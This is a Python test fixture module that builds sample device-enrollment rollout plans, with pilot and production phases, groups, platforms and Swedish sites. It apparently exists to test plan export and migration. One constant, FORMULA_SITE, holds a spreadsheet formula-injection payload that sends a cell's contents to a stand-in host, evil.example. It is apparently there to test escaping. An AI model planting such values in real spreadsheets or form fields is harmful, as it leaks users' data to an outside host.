"""Plans built by hand with what each placement enrolls (platforms, sites, devices), and the same
plan as it was saved before placements said so: what the outputs are tested on, whatever the
planner makes of any answers."""

from __future__ import annotations

from typing import Any

from advisor.model.plan import (
    Entry,
    GroupPlan,
    Phase,
    Placement,
    Plan,
    Reason,
    RulebookRef,
    SplitBy,
    Warning,
)
from advisor.model.vocabulary import Approach, Language, PhaseKind, Platform, Split, term

SOURCE = "https://learn.microsoft.com/en-us/intune/intune-service/fundamentals/deployment-guide-enrollment"
FORMULA_SITE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
PIPE_SITE = "Umeå | Norr"

# One placement as written by hand: group, phase, number, month, users, approach, platforms,
# sites, devices.
_Placed = tuple[str, PhaseKind, int | None, str, int, Approach, list[Platform], list[str], int]


def _reason(rule: str, text: str) -> Reason:
    return Reason(rule=rule, text=text, source=SOURCE, facts={}, provenance="beyond_guide")


def _plan(language: Language, split: Split, names: dict[str, str], placed: list[_Placed]) -> Plan:
    phases: dict[tuple[PhaseKind, int | None, str], list[Entry]] = {}
    for group, kind, number, month, users, approach, platforms, locations, devices in placed:
        entry = Entry(
            group=group,
            users=users,
            enrollment=approach,
            platforms=platforms,
            locations=locations,
            devices=devices,
        )
        phases.setdefault((kind, number, month), []).append(entry)
    return Plan(
        language=language,
        organisation="Norrland Care",
        rulebook=RulebookRef(version="test", rules=3),
        split_by=SplitBy(value=split, reasons=[_reason("split-rule", "Production is cut this way.")]),
        phases=[
            Phase(
                kind=kind,
                number=number,
                month=month,
                title=term(kind, language) if number is None else term("production", language, number=number),
                entries=entries,
            )
            for (kind, number, month), entries in phases.items()
        ],
        groups=[
            GroupPlan(
                id=group,
                name=name,
                placements=[
                    Placement(
                        phase=kind,
                        number=number,
                        month=month,
                        users=users,
                        enrollment=approach,
                        platforms=platforms,
                        locations=locations,
                        devices=devices,
                    )
                    for who, kind, number, month, users, approach, platforms, locations, devices in placed
                    if who == group
                ],
                reasons=[_reason("group-rule", f"{name} goes here.")],
                alternatives=[],
            )
            for group, name in names.items()
        ],
        warnings=[Warning(code="w", group="stores", text="Mind the stores.", provenance="beyond_guide")],
    )


def sites_plan(language: Language = "en", *, site: str = "Luleå") -> Plan:
    """Split by geography: the pilot holds all of IT's platforms and sites; production phase 1
    batches two stores' sites (the second one called `site`); phase 2 enrolls the office."""
    names = {"it": "IT", "stores": "Stores" if language == "en" else "Butiker", "office": "Office"}
    return _plan(
        language,
        "geography",
        names,
        [
            (
                "it",
                "limited_pilot",
                None,
                "2027-03",
                20,
                "self_service",
                ["windows", "ios"],
                ["Umeå", site],
                35,
            ),
            ("stores", "production", 1, "2027-04", 120, "assisted", ["windows", "ios"], ["Umeå"], 130),
            ("stores", "production", 1, "2027-04", 80, "assisted", ["windows", "ios"], [site], 90),
            ("office", "production", 2, "2027-05", 40, "self_service", ["macos"], ["Kiruna"], 40),
        ],
    )


def platforms_plan(language: Language = "en") -> Plan:
    """Split by platform: one group with two platforms gets one placement per platform."""
    names = {"it": "IT", "stores": "Nurses" if language == "en" else "Sjuksköterskor"}
    return _plan(
        language,
        "platform",
        names,
        [
            ("it", "limited_pilot", None, "2027-03", 20, "self_service", ["windows", "ios"], ["Umeå"], 35),
            ("stores", "production", 1, "2027-04", 300, "self_service", ["windows"], ["Umeå"], 300),
            ("stores", "production", 2, "2027-05", 300, "self_service", ["ios"], ["Umeå"], 250),
        ],
    )


def _strip(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: _strip(v) for k, v in value.items() if k not in ("platforms", "locations", "devices")}
    if isinstance(value, list):
        return [_strip(v) for v in value]
    return value


def old_plan(language: Language = "en") -> Plan:
    """sites_plan as it was saved before placements said what they enroll."""
    return Plan.model_validate(_strip(sites_plan(language).model_dump(mode="json")))
